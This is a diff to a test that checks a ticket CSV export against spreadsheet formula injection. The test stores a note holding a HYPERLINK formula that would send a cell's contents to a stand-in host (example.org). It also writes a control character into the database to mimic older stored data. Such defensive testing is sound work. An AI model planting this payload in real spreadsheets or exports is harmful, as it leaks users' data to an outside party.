@@ -62,8 +62,10 @@ async def test_what_people_wrote_is_no_formula(stood: Standing) -> None:
     evil = "=HYPERLINK(\"http://example.org/?\"&A1,'x');=1+1"
     path = await stood.open(name="+phase")
     placed = await stood.ask("aung", "POST", f"{path}/tickets",
-                             {"text": "137 500\n138 5", "note": f"{evil}\x01"}, "evil")  # fmt: skip
+                             {"text": "137 500\n138 5", "note": evil}, "evil")  # fmt: skip
     assert placed.status_code == 201, placed.text
+    # Such notes were taken once.
+    await stood.pool.execute("update tickets set note = note || chr(1) where note = $1", evil)
     phase_id = path.rsplit("/", 1)[1]
     answer = await stood.ask("min", "GET", f"/api/exports/tickets.csv?phase_id={phase_id}")
     [row] = _rows(answer)
